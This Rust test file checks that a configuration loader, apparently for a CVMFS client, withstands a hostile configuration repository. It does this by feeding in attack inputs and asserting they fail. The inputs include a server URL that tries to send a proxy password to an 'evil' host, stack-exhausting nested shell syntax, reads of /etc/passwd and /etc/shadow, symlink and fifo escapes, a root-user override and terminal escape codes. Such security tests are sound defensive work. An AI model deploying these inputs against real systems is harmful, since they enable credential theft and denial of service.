//! Configuration files of an attacker, above all of one who may publish in the configuration repository.
#![allow(clippy::unwrap_used, reason = "helpers of tests may die, too")]

use std::os::unix::fs::symlink;

use super::tests::tree;
use super::*;
use crate::config::RepositoryFlags;

const FQRN: &str = "x.test.org";
const NAME: &str = "config.test.org";

/// A machine that names a configuration repository, which is mounted.
struct Machine {
    _files: tempfile::TempDir,
    mounts: tempfile::TempDir,
    environment: Environment,
}

impl Machine {
    fn new(local: &[(&str, &str)], repository: &[(&str, &str)]) -> Self {
        let mounts = tempfile::tempdir().unwrap();
        let named = format!(
            "CVMFS_MOUNT_DIR={}\nCVMFS_CONFIG_REPOSITORY={NAME}\n",
            mounts.path().display()
        );
        let files = [&[("default.d/00-where.conf", named.as_str())], local].concat();
        let (files, environment) = tree(&files);
        let machine = Self { _files: files, mounts, environment };
        std::fs::create_dir_all(machine.place()).unwrap();
        for (name, text) in repository {
            machine.write(name, text);
        }
        machine
    }

    fn place(&self) -> PathBuf {
        self.mounts.path().join(NAME).join("etc/cvmfs")
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.place().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn load(&self) -> Configuration {
        Configuration::load(&self.environment, Some(&FQRN.parse().unwrap()))
    }
}

/// Runs in a stack as small as that of any thread that may read configuration.
fn in_small_stack<T: Send + 'static>(run: impl FnOnce() -> T + Send + 'static) -> T {
    let thread = std::thread::Builder::new().stack_size(256 << 10).spawn(run).unwrap();
    thread.join().unwrap()
}

/// Texts that nest as deeply as a file is long, or take as long as it allows.
fn excessive() -> Vec<(&'static str, String)> {
    let nested_files = (0..23).fold(". ./next\n".to_owned(), |text, _| format!("{{ {text} }}\n"));
    let stars = format!("A={}\ncase $A in\n", "a".repeat(7000));
    let many = |line: &str, count: usize| line.repeat(count);
    vec![
        ("negations", format!("if [ {}x ]; then A=1; fi\n", many("! ", 30_000))),
        ("or", format!("[ {}x ] && A=1\n", many("x -o ", 12_000))),
        ("groups", many("{ ", 30_000)),
        ("conditions", many("if true; then ", 4000)),
        ("functions", many("f() ", 15_000) + "{ A=1; }\n"),
        ("cases", many("case x in x) ", 4000)),
        ("expansions", "A=".to_owned() + &many("${A:-", 12_000)),
        ("quoted expansions", "A=\"".to_owned() + &many("${A:-", 12_000)),
        ("files", ". ./default.conf\n".to_owned()),
        ("files in groups", nested_files),
        ("patterns", stars.clone() + &many("*a*a*a*a*a*a*a*b) ;;\n", 200) + "esac\n"),
        ("sets", format!("{stars}*{}b) ;;\nesac\n", many("[b-zb-zb-zb-zb-zb-zb-zb-za]", 250))),
        ("bytes", format!("A={}\n", "a".repeat(7000)) + &many("B=$A\n", 4000)),
        ("words", many("a\n", 30_000)),
        ("size", many("# comment\n", 10_000)),
    ]
}

#[test]
fn h7_a_configuration_repository_that_asks_for_too_much_says_nothing() {
    for (what, text) in excessive() {
        let machine = Machine::new(
            &[("default.local", "CVMFS_TIMEOUT=7\n"), ("config.d/x.test.org.local", "SITE=ours\n")],
            &[("default.conf", &format!("CVMFS_USE_GEOAPI=yes\n{text}")), ("next", &text)],
        );
        let found = in_small_stack(move || (machine.load(), machine)).0;
        let missing = found.missing_repository.as_ref().unwrap_or_else(|| panic!("{what}"));
        let (file, rest) =
            missing.why.split_once(".conf:").or(missing.why.split_once("next:")).unwrap();
        let (line, _) = rest.split_once(": ").unwrap();
        assert!(file.contains(NAME) && line.parse::<u32>().unwrap() >= 1, "{what}: {missing:?}");
        // Neither halfway, nor at the expense of what the machine says.
        assert_eq!(found.text("CVMFS_USE_GEOAPI"), None, "{what}");
        assert_eq!(found.text("CVMFS_TIMEOUT"), Some("7"), "{what}");
        assert_eq!(found.text("SITE"), Some("ours"), "{what}");
        assert!(found.broken.is_none(), "{what}: {:?}", found.broken);
    }
}

#[test]
fn h7_files_of_the_machine_have_limits_as_well() {
    let many = |line: &str, count: usize| line.repeat(count);
    for (what, text) in [
        ("negations", format!("[ {}x ] && A=1\n", many("! ", 200_000))),
        ("functions", many("f() ", 200_000)),
        ("groups", many("{ ", 200_000)),
        ("files", "A=1\n\n. ./default.local\n".to_owned()),
        (
            "patterns",
            format!("A={}\ncase $A in\n", "a".repeat(60_000))
                + &many("*a*a*a*a*b) ;;\n", 500)
                + "esac",
        ),
    ] {
        let (_scratch, environment) = tree(&[("default.local", &text)]);
        let fqrn: Fqrn = FQRN.parse().unwrap();
        let failure = in_small_stack(move || {
            Configuration::of(&RepositoryFlags::default(), &environment, Some(&fqrn)).unwrap_err()
        });
        assert_eq!(failure.status, crate::cli::exit::ExitStatus::Options, "{what}");
        let place = if what == "files" { "default.local:3: " } else { "default.local:" };
        assert!(failure.message.contains(place), "{what}: {failure}");
    }
}

#[test]
fn h7_a_configuration_repository_sees_no_value_of_the_machine() {
    const SECRET: &str = "geheim";
    let machine = Machine::new(
        &[
            (
                "default.d/50-site.conf",
                "CVMFS_HTTP_PROXY=http://site:geheim@proxy:3128\nSITE_WORD=geheim\nCVMFS_USE_CDN=yes\n",
            ),
            ("default.local", "CVMFS_DNS_SERVER=geheim\nCVMFS_CLIENT_PROFILE=single\n"),
        ],
        &[
            ("default.conf", "CVMFS_SERVER_URL=http://evil/$CVMFS_HTTP_PROXY/@fqrn@\n"),
            (
                "domain.d/test.org.conf",
                "A=$CVMFS_HTTP_PROXY B=\"${SITE_WORD:-none}\" C=${CVMFS_HTTP_PROXY:+is-set}\n\
                 D=${CVMFS_DNS_SERVER-none} E=$CVMFS_USE_CDN/$CVMFS_CLIENT_PROFILE/$CVMFS_FQRN F=$A$B\n\
                 case $SITE_WORD in g*) G=guessed ;; '') G=nothing ;; esac\n\
                 [ \"$CVMFS_HTTP_PROXY\" = \"\" ] && H=unset\n\
                 if [ -f /etc/passwd ] || [ -e / ]; then I=seen; else I=blind; fi\n\
                 [ -f ../default.conf ] && [ -d ../domain.d ] && J=inside\n\
                 : ${SITE_WORD:=K} ${K:=$SITE_WORD}\n",
            ),
        ],
    );
    let found = machine.load();
    for (name, expected) in [
        ("CVMFS_SERVER_URL", "http://evil//x.test.org"),
        ("B", "none"),
        ("D", "none"),
        ("E", "yes/single/x.test.org"),
        ("F", "none"),
        ("G", "nothing"),
        ("H", "unset"),
        ("I", "blind"),
        ("J", "inside"),
        ("K", "K"),
        ("SITE_WORD", SECRET),
        ("CVMFS_HTTP_PROXY", "http://site:geheim@proxy:3128"),
    ] {
        assert_eq!(found.text(name), Some(expected), "{name}");
    }
    assert_eq!((found.text("A"), found.text("C")), (None, None));
    let foreign = found.values.values().filter(|value| value.foreign);
    assert!(foreign.into_iter().all(|value| !value.text.contains(SECRET)));
    let warned = |part: &str| found.remarks.iter().any(|remark| remark.to_string().contains(part));
    assert!(warned("default.conf:1: CVMFS_HTTP_PROXY of this machine is not for"));
    assert!(!found.remarks.iter().any(|remark| remark.text.contains(SECRET)));
    // Nor does a link of a repository show it to whoever may read links.
    let flags = found.complete(&RepositoryFlags::default(), &machine.environment);
    let shown: Vec<_> =
        flags.symlink_variable.iter().map(|text| text.to_string_lossy().into_owned()).collect();
    assert!(!shown.iter().any(|text| text.contains("site:geheim")), "{shown:?}");
}

#[test]
fn h7_a_configuration_repository_takes_nothing_from_the_machine() {
    let ours = [
        (
            "default.d/50-site.conf",
            "CVMFS_HTTP_PROXY=http://ours:3128\nCVMFS_FALLBACK_PROXY=http://back:3128\nCVMFS_BLACKLIST=/ours\n\
             CVMFS_MAX_TTL=5\nCVMFS_FOLLOW_REDIRECTS=no\nSITE=ours\nCVMFS_PAC_URLS=\n",
        ),
        ("default.local", "CVMFS_EXTERNAL_HTTP_PROXY=http://ours:3128\nLATER=ours\n"),
    ];
    let names = [
        "CVMFS_HTTP_PROXY",
        "CVMFS_FALLBACK_PROXY",
        "CVMFS_EXTERNAL_HTTP_PROXY",
        "CVMFS_BLACKLIST",
        "CVMFS_MAX_TTL",
        "CVMFS_FOLLOW_REDIRECTS",
        "CVMFS_PAC_URLS",
        "SITE",
        "LATER",
    ];
    let expected: Vec<_> = {
        let found = Machine::new(&ours, &[]).load();
        names.iter().map(|name| found.text(name).map(str::to_owned)).collect()
    };
    let every = |form: &str| {
        names.iter().map(|name| form.replace("NAME", name)).collect::<Vec<_>>().join("\n") + "\n"
    };
    for form in [
        "NAME=http://evil:1",
        "NAME=",
        "export NAME=/dev/null",
        "readonly NAME=DIRECT",
        "readonly NAME",
        "unset NAME",
        "eval NAME=1",
        ": ${NAME:=http://evil:1}",
        "unset NAME\nNAME=http://evil:1",
    ] {
        let text = every(form);
        for file in ["default.conf", "domain.d/test.org.conf", "config.d/x.test.org.conf"] {
            let found = Machine::new(&ours, &[(file, &text)]).load();
            let values: Vec<_> =
                names.iter().map(|name| found.text(name).map(str::to_owned)).collect();
            assert_eq!(values, expected, "{form} in {file}");
        }
    }
    // Neither do its mistakes and its number end the evaluation of other files, or hide what is said of them.
    let noise = "CVMFS_USER=root\n`x`\n".repeat(400) + "exit\n";
    let found =
        Machine::new(&[("default.local", "A=`x`\nB=1\n")], &[("default.conf", &noise)]).load();
    assert_eq!(found.text("B"), Some("1"));
    let is_ours = |remark: &Remark| remark.origin.file.ends_with("default.local");
    assert!(found.remarks.iter().any(is_ours));
    assert!(found.remarks.len() < 600, "{}", found.remarks.len());
}

#[test]
fn h7_where_the_machine_is_silent_a_configuration_repository_is_heard() {
    let text = "CVMFS_HTTP_PROXY='http://a:1;DIRECT'\nCVMFS_TIMEOUT=9\nCVMFS_TIMEOUT_DIRECT=99999\n\
                CVMFS_MAX_RETRIES=many\nCVMFS_SERVER_URL='http://a;file:///etc'\nCVMFS_EXTERNAL_URL=http://e\n\
                CVMFS_PAC_URLS=file:///etc/shadow\nSITE=theirs\n";
    let machine = Machine::new(
        &[(
            "default.conf",
            "CVMFS_TIMEOUT=5\nCVMFS_TIMEOUT_DIRECT=10\nCVMFS_SERVER_URL=http://ours\n",
        )],
        &[("default.conf", text), ("config.d/x.test.org.conf", "CVMFS_HTTP_PROXY=http://b:1\n")],
    );
    let found = machine.load();
    for (name, expected) in [
        ("CVMFS_HTTP_PROXY", Some("http://b:1")),
        ("CVMFS_TIMEOUT", Some("9")),
        ("CVMFS_TIMEOUT_DIRECT", Some("10")),
        ("CVMFS_MAX_RETRIES", None),
        ("CVMFS_SERVER_URL", Some("http://ours")),
        ("CVMFS_EXTERNAL_URL", Some("http://e")),
        ("CVMFS_PAC_URLS", None),
        ("SITE", Some("theirs")),
    ] {
        assert_eq!(found.text(name), expected, "{name}");
    }
}

#[test]
fn h7_keys_of_a_configuration_repository_are_its_own_and_are_added() {
    let machine = Machine::new(
        &[("keys/test.org.pub", "local"), ("elsewhere/other.pub", "stolen")],
        &[("keys/a.pub", "a"), ("keys/b.txt", "b"), ("more/c", "c")],
    );
    let (place, local) = (machine.place(), machine.environment.configuration.clone());
    symlink(local.join("elsewhere/other.pub"), place.join("keys/out.pub")).unwrap();
    symlink("../more/c", place.join("keys/in.pub")).unwrap();
    symlink(local.join("elsewhere"), place.join("away")).unwrap();
    nix::unistd::mkfifo(&place.join("keys/fifo.pub"), nix::sys::stat::Mode::S_IRUSR).unwrap();
    let named = |text: &str| {
        machine.write("default.conf", text);
        let mut names: Vec<_> = machine.load().added_keys();
        names.sort();
        names.into_iter().map(|(_, key)| String::from_utf8(key).unwrap()).collect::<Vec<_>>()
    };
    let keys = "CVMFS_KEYS_DIR=$CVMFS_MOUNT_DIR/$CVMFS_CONFIG_REPOSITORY/etc/cvmfs/";
    assert_eq!(named(&format!("{keys}keys\n")), ["a", "c"]);
    assert_eq!(named(&format!("{keys}more/../keys/\n")), ["a", "c"]);
    for outside in ["away", "../../elsewhere", "none", "more/c"] {
        assert_eq!(named(&format!("{keys}{outside}\n")), [""; 0], "{outside}");
    }
    let outside = local.join("elsewhere").display().to_string();
    assert_eq!(named(&format!("CVMFS_KEYS_DIR={outside}\n")), [""; 0]);
    let files = format!(
        "CVMFS_PUBLIC_KEY={outside}/other.pub:{0}/more/c:{0}/keys/out.pub:/dev/zero:c\n",
        place.display()
    );
    assert_eq!(named(&files), ["c"]);
    // What the machine says of keys stays, whichever is read first.
    machine.write("domain.d/test.org.conf", "unset CVMFS_KEYS_DIR\nCVMFS_KEYS_DIR=/evil\n");
    std::fs::write(local.join("default.local"), "CVMFS_KEYS_DIR=/ours\n").unwrap();
    let found = machine.load();
    assert_eq!(found.text("CVMFS_KEYS_DIR"), Some("/ours"));
    assert_eq!(found.added["CVMFS_KEYS_DIR"].text, "/evil");
    assert!(found.added_keys().is_empty() || found.added.contains_key("CVMFS_PUBLIC_KEY"));
}

#[test]
fn h7_files_of_a_configuration_repository_are_foreign_whoever_names_them() {
    let machine = Machine::new(
        &[(
            "default.local",
            "SECRET=geheim\n. $CVMFS_MOUNT_DIR/$CVMFS_CONFIG_REPOSITORY/etc/cvmfs/common.conf\nAFTER=1\n",
        )],
        &[
            (
                "common.conf",
                "CVMFS_USER=root\nTOLD=$SECRET\nCVMFS_USE_GEOAPI=yes\n. ./out\n. ./fifo\n",
            ),
            ("domain.d/test.org.conf", ". ../out\n. ../../../../outside\n. /etc/passwd\n"),
        ],
    );
    std::fs::write(machine.mounts.path().join("outside"), "LEAKED=1\n").unwrap();
    symlink("../../../outside", machine.place().join("out")).unwrap();
    nix::unistd::mkfifo(&machine.place().join("fifo"), nix::sys::stat::Mode::S_IRUSR).unwrap();
    let found = machine.load();
    for (name, expected) in [
        ("CVMFS_USER", None),
        ("TOLD", None),
        ("LEAKED", None),
        ("CVMFS_USE_GEOAPI", Some("yes")),
        ("AFTER", Some("1")),
    ] {
        assert_eq!(found.text(name), expected, "{name}");
    }
    let remarks: Vec<_> = found.remarks.iter().map(ToString::to_string).collect();
    for part in
        ["./out cannot be read: it is outside of", "./fifo cannot be read", "/etc/passwd cannot"]
    {
        assert!(remarks.iter().any(|remark| remark.contains(part)), "{part}: {remarks:?}");
    }
}

#[test]
fn h7_fifos_in_the_place_of_files_are_not_waited_for() {
    let machine = Machine::new(&[("default.local", ". ./pipe\nA=1\n")], &[]);
    let local = &machine.environment.configuration;
    for path in [
        machine.place().join("default.conf"),
        local.join("pipe"),
        local.join("default.conf"),
        local.join("default.d/10-pipe.conf"),
    ] {
        nix::unistd::mkfifo(&path, nix::sys::stat::Mode::S_IRUSR).unwrap();
    }
    let found = machine.load();
    assert_eq!(found.text("A"), Some("1"));
    assert_eq!(found.remarks.len(), 4, "{:?}", found.remarks);
}

#[test]
fn h7_remarks_have_no_signs_for_a_terminal() {
    let text = "CVMFS_\u{1b}]0;x\u{7}=1\n'\u{1b}[31m' a\n[ a \u{1b}[2J b c ]\n. './\u{1b}x'\n";
    let found = Machine::new(&[], &[("default.conf", text)]).load();
    assert!(found.remarks.len() >= 3, "{:?}", found.remarks);
    assert!(!found.remarks.iter().any(|remark| remark.text.contains(char::is_control)));
}
